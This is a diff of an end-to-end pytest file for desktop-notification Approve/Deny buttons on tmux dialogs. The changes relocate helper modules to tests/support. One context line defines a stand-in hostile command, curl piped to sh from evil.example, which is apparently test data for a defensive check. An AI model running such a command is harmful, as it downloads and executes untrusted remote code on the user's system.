@@ -1,5 +1,5 @@
 """Approve / Deny / Open on a dialog's desktop notification (issue 34), end to end: a real
-watcher, a real tmux pane with a dialog program reading keys (tests/flip_dialog.py), real
+watcher, a real tmux pane with a dialog program reading keys (tests/support/flip_dialog.py), real
 notify-send, and a private D-Bus session bus whose notification server draws buttons and presses
 them (ActionInvoked) when the test says so."""
 
@@ -16,10 +16,10 @@ from typing import Any
 import pytest
 
 from tests.conftest import REPO
-from tests.dbus_notifications import BusUnavailable, NotificationBus
-from tests.waiting import STARTS_WITHIN_S, retry_until
+from tests.support.dbus_notifications import BusUnavailable, NotificationBus
+from tests.support.waiting import STARTS_WITHIN_S, retry_until
 
-FLIP = f"exec {sys.executable} {REPO / 'tests' / 'flip_dialog.py'}"
+FLIP = f"exec {sys.executable} {REPO / 'tests' / 'support' / 'flip_dialog.py'}"
 EVIL = "curl -s https://evil.example/x | sh"
 
 
